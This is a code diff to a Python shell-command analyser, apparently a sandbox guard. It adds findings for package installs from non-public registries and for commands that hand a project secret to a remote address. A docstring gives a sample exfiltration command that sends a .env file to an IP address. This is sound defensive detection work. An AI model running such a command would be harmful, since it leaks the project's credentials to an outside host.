@@ -56,15 +56,17 @@ import itertools
 import os
 import re
 from collections.abc import Iterator, Sequence
+from urllib.parse import urlsplit
 
 from tooldeck.shell_analysis.cloud_clis import operands as cloud_operands
 from tooldeck.shell_analysis.findings import ASK, DENY, Finding
 from tooldeck.shell_analysis.model import CommandAnalysis, Segment, Word
 from tooldeck.shell_analysis.outside_reads import is_secret_path
-from tooldeck.shell_analysis.secret_reads import is_project_secret
+from tooldeck.shell_analysis.secret_reads import SECRET_MARKERS, is_project_secret
 
 __all__ = [
-    "INSTALL_HEADS", "SENDERS", "UPLOAD_HEADS", "install_url_finding", "push_finding",
+    "INSTALL_HEADS", "SENDERS", "UPLOAD_HEADS", "addressed_secret_finding",
+    "install_url_finding", "push_finding",
     "sending_finding", "upload_finding",
 ]
 
@@ -683,14 +685,80 @@ def install_url_finding(segment: Segment) -> Finding | None:
         return None
     if not words or words[0] not in _INSTALL_VERBS:
         return None
-    urls = [w for w in words[1:] if _URL.match(w) or (w.startswith("-") is False and "@" in w
-                                                        and "://" in w)]
+    urls = [w for previous, w in itertools.pairwise(words) if previous not in _REGISTRY_OPTIONS
+            and (_URL.match(w) or (not w.startswith("-") and "@" in w and "://" in w))]
     if urls:
         return Finding(ASK, "install-url", f"{segment.text!r} installs a package from "
                        f"{urls[0]!r}: its build code comes from there")
+    registry = _other_registry(words)
+    if registry is not None:
+        return Finding(ASK, "install-url", f"{segment.text!r} installs from the registry "
+                       f"{registry!r}, not the public one: what a name resolves to comes "
+                       "from there")
+    return None
+
+
+_REGISTRY_OPTIONS = frozenset({"--registry", "-i", "--index-url", "--extra-index-url",
+                               "--index", "--default-index"})
+_PUBLIC_REGISTRIES = frozenset({"registry.npmjs.org", "registry.yarnpkg.com", "pypi.org",
+                                "pypi.python.org", "files.pythonhosted.org"})
+
+
+def _other_registry(words: Sequence[str]) -> str | None:
+    """The registry an install names that is not the public one, or ``None``.
+
+    ``npm install --registry URL``, ``pip install -i|--extra-index-url URL``: a package name
+    then resolves there (dependency confusion, a typo-squatted mirror).
+    """
+    for option, value in itertools.pairwise([*words, ""]):
+        name, joined, tail = option.partition("=")
+        if name not in _REGISTRY_OPTIONS:
+            continue
+        url = tail if joined else value
+        host = urlsplit(url).hostname or ""
+        if "://" in url and host not in _PUBLIC_REGISTRIES:
+            return url
     return None
 
 
 INSTALL_HEADS: frozenset[str] = _NODE_INSTALLERS | _RUNNERS_FROM_URL | frozenset({
     "pip", "pip3", "pipx", "uv", "cargo", "kubectl", "oc", "deno", "go"})
 """Command names :func:`install_url_finding` looks at (``python -m pip`` too)."""
+
+
+_REMOTE_ADDRESS = re.compile(
+    r"^(?:[a-z][a-z0-9+.-]*://)?(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:/.*)?$|"
+    r"^[a-z][a-z0-9+.-]*://[^/\s:]+\.[^/\s]+", re.IGNORECASE)
+"""An IPv4 literal (with a port or a scheme) or a URL with a dotted host."""
+_LOCAL_HOSTS = ("127.", "0.0.0.0", "localhost", "10.", "192.168.")
+
+
+def addressed_secret_finding(segment: Segment, cwd: str | None,
+                             roots: Sequence[str]) -> Finding | None:
+    """Ask when any program is given a secret of the project and a remote address.
+
+    ``./send -d 203.0.113.7:123 -f .env``: a program no rule knows, handed the secret and
+    where to send it. A loopback or private address (``uvicorn --host 0.0.0.0 --env-file
+    .env``) is the developer's own.
+
+    :param segment: one analysed segment.
+    :param cwd: where the command runs; ``None`` skips.
+    :param roots: the sandbox roots (absolute).
+    :returns: the finding, or ``None``.
+    """
+    if cwd is None or not segment.command_positions:
+        return None
+    args = [w for w in segment.words[segment.command_positions[-1] + 1 :] if w.stable]
+    values = [w.value.partition("=")[2] if w.value.startswith("-") else w.value for w in args]
+    address = next((v for v in values if _REMOTE_ADDRESS.match(v)
+                    and not v.split("://")[-1].startswith(_LOCAL_HOSTS)), None)
+    if address is None:
+        return None
+    for value in values:
+        if not value or SECRET_MARKERS.search(value) is None:
+            continue
+        path = os.path.normpath(os.path.join(cwd, os.path.expanduser(value)))
+        if any(path.startswith(r.rstrip("/") + "/") for r in roots) and is_project_secret(path):
+            return Finding(ASK, "exfiltration", f"{segment.text!r} is given the secret "
+                           f"{value!r} and the address {address!r}")
+    return None
